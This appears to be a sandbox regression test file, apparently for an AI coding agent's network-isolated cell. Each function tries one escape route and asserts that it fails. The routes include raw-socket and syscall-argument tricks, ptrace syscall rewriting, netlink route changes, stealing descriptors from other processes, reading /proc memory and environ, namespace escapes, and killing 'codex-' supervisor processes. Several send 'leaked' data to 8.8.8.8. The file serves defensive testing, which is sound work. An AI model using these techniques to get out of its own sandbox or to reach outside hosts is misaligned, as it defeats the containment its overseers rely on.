"""Ways out of the cell, one function each, as a program inside would try them: test_cell_attacks.py."""

WAYS = r"""
import array, ctypes, errno, fcntl, os, select, signal, socket, struct, sys, threading, time
libc = ctypes.CDLL(None, use_errno=True)
OUT = "8.8.8.8"
def quiet(f, *a):
    try: return f(*a)
    except (OSError, TypeError, OverflowError) as e: return e
def aim(s, to=(OUT, 443)):
    s.setblocking(False)
    quiet(s.connect, to)
    select.select([], [s], [], 0.05)
    quiet(s.send, b"leaked")
def tcp(): return socket.socket(socket.AF_INET, socket.SOCK_STREAM)
def throw(s):
    s.setblocking(False)
    quiet(s.connect, (OUT, 443))
    quiet(s.send, b"leaked")
def sockets():
    for family in range(50):
        for kind in (1, 2, 3, 5, 6, 10):
            for protocol in (0, 1, 6, 17, 41, 47, 58, 132, 136, 255, 262):
                s = quiet(socket.socket, family, kind, protocol)
                if isinstance(s, socket.socket):
                    if family not in (1, 16):
                        quiet(s.sendto, b"leaked", (OUT, 53))
                        aim(s) if kind == 1 else None
                    s.close()
def garbage():
    # The kernel uses 32 bits of each argument, and the low four of the type.
    long = ctypes.c_ulong
    for high in (1 << 32, 0xdead << 32):
        for family, kind, protocol in ((2, 2, 0), (2, 1, 262), (2, 1, 132), (2, 3, 1), (10, 1, 0), (10, 2, 0), (17, 3, 3), (38, 5, 0), (43, 1, 0), (44, 3, 0)):
            s = libc.syscall(41, long(high | family), long(high | kind), long(high | protocol))
            assert s < 0, (family, kind, protocol)
        s = libc.syscall(41, long(high | 2), long(high | 1), long(high))
        if s >= 0: throw(socket.socket(fileno=s))
    for flag in (0x10, 0x100, 0x10000, 1 << 31):
        s = libc.syscall(41, 2, 1 | flag, 0)
        if s >= 0: throw(socket.socket(fileno=s))
    for family in (2, 10):
        for kind in (1, 2):
            assert isinstance(quiet(socket.socketpair, family, kind), OSError), "pair"
    time.sleep(0.2)
def netlink():
    for protocol in range(1, 23):
        assert isinstance(quiet(socket.socket, 16, 3, protocol), OSError), protocol
    s = socket.socket(16, 3, 0)
    s.settimeout(2)
    def ask(kind, body):
        s.send(struct.pack("=IHHII", 16 + len(body), kind, 5, 1, 0) + body)
        return struct.unpack_from("=i", s.recv(8192), 16)[0]
    address = struct.pack("=BBBBIHH4s", 2, 8, 0, 0, 1, 8, 2, bytes([8, 8, 8, 8]))
    route = struct.pack("=BBBBBBBBIHHI", 2, 0, 0, 0, 254, 3, 253, 1, 0, 8, 4, 1)
    link = struct.pack("=BxHiII", 0, 0, 1, 0, 1)
    rule = struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 254, 0, 0, 1, 0)
    for kind, body in ((20, address), (21, address), (24, route), (25, route), (16, link), (19, link), (32, rule), (36, address), (88, link)):
        assert ask(kind, body) < 0, kind
    aim(tcp())
def traced():
    # A filter of its own hands a harmless call to a tracer, which makes it another one.
    code = b"".join(struct.pack("HBBI", *i) for i in ((0x20, 0, 0, 0), (0x15, 0, 1, 110), (6, 0, 0, 0x7ff00000), (6, 0, 0, 0x7fff0000)))
    class P(ctypes.Structure):
        _fields_ = [("len", ctypes.c_ushort), ("filter", ctypes.c_char_p)]
    peek = lambda pid, at: libc.ptrace(3, pid, at * 8, 0)
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    libc.ptrace.restype = ctypes.c_long
    changed = 0
    for wanted in ((2, 2, 0), (2, 1, 0), (10, 1, 0), (2, 1, 262)):
        for entry in (False, True):  # at the filter's stop, or at the call's, which comes before it
            pid = os.fork()
            if pid == 0:
                libc.ptrace(0, 0, 0, 0)
                os.kill(os.getpid(), 19)
                assert entry or libc.syscall(317, 1, 0, ctypes.byref(P(4, code))) == 0
                fd = libc.syscall(110, *wanted)
                if 2 < fd < 1000: throw(socket.socket(fileno=fd))
                time.sleep(0.1)
                os._exit(0)
            os.waitpid(pid, 0)
            libc.ptrace(0x4200, pid, 0, 0x81 | 0x100000)
            while True:
                libc.ptrace(24 if entry else 7, pid, 0, 0)
                _, status = os.waitpid(pid, 0)
                if not os.WIFSTOPPED(status): break
                if peek(pid, 15) == 110 and (entry or status >> 8 == 5 | 7 << 8):
                    libc.ptrace(6, pid, 15 * 8, 41)
                    changed += 1
                    if entry: libc.ptrace(7, pid, 0, 0); os.waitpid(pid, 0); break
    assert changed >= 8, changed
def udp():
    s = quiet(socket.socket, socket.AF_INET, socket.SOCK_DGRAM)
    assert isinstance(s, OSError), "udp"
def rebinding():
    for device in os.listdir("/sys/class/net"):
        s = tcp()
        quiet(s.setsockopt, socket.SOL_SOCKET, 25, device.encode() + b"\0")
        quiet(s.setsockopt, socket.SOL_SOCKET, 25, b"")
        for level, name in ((1, 62), (0, 50), (41, 76), (1, 36), (0, 15), (0, 19), (1, 5)):
            for index in range(4):
                quiet(s.setsockopt, level, name, struct.pack("i", index))
                quiet(s.setsockopt, level, name, struct.pack(">i", index))
        aim(s)
def every_option():
    values = [struct.pack("i", n) for n in range(4)] + [b"", b"eth0\0", struct.pack("=HHI8x", 2, 0, 0)]
    held = []
    for level in (0, 1, 6, 17, 41, 132, 255, 263, 284):
        for name in range(130):
            s = tcp()
            if [v for v in values if not isinstance(quiet(s.setsockopt, level, name, v), Exception)]:
                throw(s)
                held.append(s)
            assert s.getsockopt(socket.SOL_SOCKET, 25, 16) == b"lo\0", (level, name)
    assert len(held) > 30
    time.sleep(0.2)
def sources():
    for own in (socket.gethostbyname(socket.gethostname()), "127.0.0.1", "8.8.4.4"):
        s = tcp()
        quiet(s.bind, (own, 0))
        aim(s)
def disconnecting():
    s = tcp()
    for _ in range(3):
        libc.connect(s.fileno(), struct.pack("H14x", 0), 16)
        aim(s)
    l = tcp(); l.bind(("127.0.0.1", 0)); l.listen()
    s = tcp(); s.connect(l.getsockname()); a, _ = l.accept()
    for one in (s, a):
        libc.connect(one.fileno(), struct.pack("H14x", 0), 16)
        aim(one)
def fast_open():
    for option in (23, 30, 34):
        s = tcp(); s.setblocking(False)
        quiet(s.setsockopt, 6, option, 1)
        quiet(s.setsockopt, 6, 34, 1)
        quiet(s.sendto, b"leaked", 0x20000000, (OUT, 443))
        aim(s)
def packet_info():
    s = tcp(); s.setblocking(False)
    for index in range(4):
        data = struct.pack("I4s4s", index, b"\0" * 4, b"\0" * 4)
        quiet(s.sendmsg, [b"leaked"], [(0, 8, data)], 0x20000000, (OUT, 443))
def groups():
    # What the kernel tells the neighbours about a group: 28 bits, and 32 for each source.
    s = tcp()
    for index in range(4):
        for source in range(1, 4):
            group = struct.pack("=HH4s120x", 2, 0, bytes([239, 1, 2, 3]))
            wanted = struct.pack("=HH4s120x", 2, 0, bytes([9, 9, 9, source]))
            quiet(s.setsockopt, 0, 46, struct.pack("=I4x", index) + group + wanted)
            quiet(s.setsockopt, 0, 42, struct.pack("=I4x", index) + group)
            quiet(s.setsockopt, 0, 35, struct.pack("=4s4sI", bytes([239, 1, 2, 4]), bytes(4), index))
            quiet(s.setsockopt, 0, 39, bytes([239, 1, 2, 5]) + bytes(4) + bytes([9, 9, 9, source]))
    time.sleep(0.3)
def mapped():
    for index in range(4):
        s = quiet(socket.socket, socket.AF_INET6, socket.SOCK_STREAM)
        if isinstance(s, socket.socket):
            quiet(s.bind, ("fe80::dead", 0, 0, index))
            aim(s, ("::ffff:" + OUT, 443))
def passed():
    a, b = socket.socketpair()
    if os.fork() == 0:
        s = tcp()
        socket.send_fds(a, [b"x"], [s.fileno()]); os._exit(0)
    _, fds, _, _ = socket.recv_fds(b, 1, 1)
    aim(socket.socket(fileno=fds[0]))
def taken():
    for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
        fd = libc.syscall(434, pid, 0)
        for n in range(40):
            got = libc.syscall(438, fd, n, 0) if fd >= 0 else -1
            if got >= 0 and pid != os.getpid():
                sys.exit(f"took descriptor {n} of {pid}")
        ours = pid == os.getpid() or not open(f"/proc/{pid}/comm").read().startswith("codex-")
        word = ctypes.create_string_buffer(8)
        piece = (ctypes.c_void_p * 2)(ctypes.addressof(word), 8)
        for call in (310, 311):
            assert ours or libc.syscall(call, pid, piece, 1, piece, 1, 0) < 0, (call, pid)
        assert ours or libc.syscall(312, pid, os.getpid(), 0, 1, 1) < 0, "kcmp"
        for limit in range(16):  # prlimit64, to what it has: nothing changes if it works
            had = ctypes.create_string_buffer(16)
            set_to = had if libc.syscall(302, pid, limit, None, had) == 0 else struct.pack("QQ", 1 << 20, 1 << 20)
            assert ours or libc.syscall(302, pid, limit, set_to, None) < 0, ("prlimit64", pid, limit)
        assert ours or fd < 0 or libc.syscall(440, fd, piece, 1, 20, 0) < 0, "process_madvise"
        if pid != os.getpid() and libc.ptrace(0x4206, pid, 0, 0) == 0 and open(f"/proc/{pid}/comm").read().startswith("codex-"):
            sys.exit(f"traced {pid}")
        for name in ("mem", "fd/3", "fd/5", "environ", "auxv", "ns/net", "ns/user", "root/etc", "cwd/."):
            for how in () if ours else (os.O_RDONLY, os.O_WRONLY, os.O_RDWR):
                f = quiet(os.open, f"/proc/{pid}/{name}", how)
                assert isinstance(f, OSError), (pid, name)
def listeners():
    # a filter of one's own that would answer for all: SECCOMP_RET_USER_NOTIF, then CONTINUE
    code = struct.pack("HBBI", 6, 0, 0, 0x7fc00000)
    class P(ctypes.Structure):
        _fields_ = [("len", ctypes.c_ushort), ("filter", ctypes.c_char_p)]
    assert libc.syscall(317, 1, 8, ctypes.byref(P(1, code))) < 0, "listener"
def answering():
    # The same once the worker stays down, and nobody has the first listener any more.
    code = b"".join(struct.pack("HBBI", *i) for i in ((0x20, 0, 0, 0), (0x15, 0, 1, 41), (6, 0, 0, 0x7fc00000), (6, 0, 0, 0x7fff0000)))
    class P(ctypes.Structure):
        _fields_ = [("len", ctypes.c_ushort), ("filter", ctypes.c_char_p)]
    print("begun", flush=True)
    while getattr(s := quiet(tcp), "errno", 0) != errno.ENOSYS:
        if isinstance(s, socket.socket): s.close()
        time.sleep(0.01)
    got = []
    def held():
        got.append(libc.syscall(317, 1, 8, ctypes.byref(P(4, code))))
        s = quiet(tcp)
        if isinstance(s, socket.socket): aim(s)
    t = threading.Thread(target=held)
    t.start()
    while not got: time.sleep(0.01)
    while got[0] >= 0 and t.is_alive():
        call = ctypes.create_string_buffer(80)
        if libc.ioctl(got[0], ctypes.c_ulong(0xc0502100), call) == 0:
            libc.ioctl(got[0], ctypes.c_ulong(0xc0182101), call.raw[:8] + struct.pack("=qiI", 0, 0, 1))
    t.join()
def namespaces():
    assert libc.unshare(0x10000000 | 0x40000000) < 0
    assert libc.syscall(435, ctypes.create_string_buffer(88), 88) < 0
    for flag in (0x10000000, 0x40000000, 0x00020000):
        pid = libc.syscall(56, flag | 17, 0, 0, 0, 0)
        if pid == 0: os._exit(0)
        assert pid < 0, flag
    for kind in ("net", "user", "mnt"):
        assert libc.setns(os.open(f"/proc/self/ns/{kind}", os.O_RDONLY), 0) < 0, kind
    for call in (425, 426, 427, 321, 298, 323, 165, 428, 430, 442, 304):
        assert libc.syscall(call, 8, ctypes.create_string_buffer(120), 0, 0, 0, 0) < 0, call
def races():
    stop = []
    def meddle():
        while not stop:
            for fd in range(5, 20): quiet(os.dup2, 0, fd)
            for fd in range(5, 20): quiet(os.close, fd)
    def make():
        for _ in range(60):
            s = quiet(tcp)
            if isinstance(s, socket.socket):
                quiet(aim, s)
                s.detach()
    threads = [threading.Thread(target=make) for _ in range(8)]
    m = threading.Thread(target=meddle); m.start()
    for t in threads: t.start()
    for t in threads: t.join()
    stop.append(1); m.join()
def interrupted():
    signal.signal(signal.SIGALRM, lambda *_: None)
    signal.setitimer(signal.ITIMER_REAL, 0.0001, 0.0001)
    for _ in range(1000):
        s = quiet(tcp)
        if isinstance(s, socket.socket): throw(s)
    signal.setitimer(signal.ITIMER_REAL, 0)
    for _ in range(40):
        pid = os.fork()
        while pid == 0:
            s = quiet(tcp)
            if isinstance(s, socket.socket): throw(s)
        time.sleep(0.003)
        os.kill(pid, 9)
        os.waitpid(pid, 0)
    throw(tcp())
def executed():
    def make():
        while True: libc.socket(2, 1, 0)
    for _ in range(4): threading.Thread(target=make, daemon=True).start()
    time.sleep(0.02)
    os.execv(sys.executable, [sys.executable, "-c", sys.orig_argv[2], "inherited"])
def inherited():
    for fd in [int(n) for n in os.listdir("/proc/self/fd") if int(n) > 2]:
        s = quiet(lambda: socket.socket(fileno=fd))
        if isinstance(s, socket.socket): throw(s)
    time.sleep(0.2)
def flood():
    held = []
    while True:
        s = quiet(tcp)
        if isinstance(s, OSError): break
        held.append(s)
    for s in held[:50]: aim(s)
def signals():
    me = os.getpid()
    for _ in range(4):
        for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
            try: comm = open(f"/proc/{pid}/comm").read()
            except OSError: continue
            if pid == 1 or comm.startswith("codex-"):
                for sig in (19, 9): quiet(os.kill, pid, sig)
        s = quiet(tcp)
        if isinstance(s, socket.socket): aim(s)
        time.sleep(0.3)
globals()[sys.argv[1]]()
print("tried")
"""
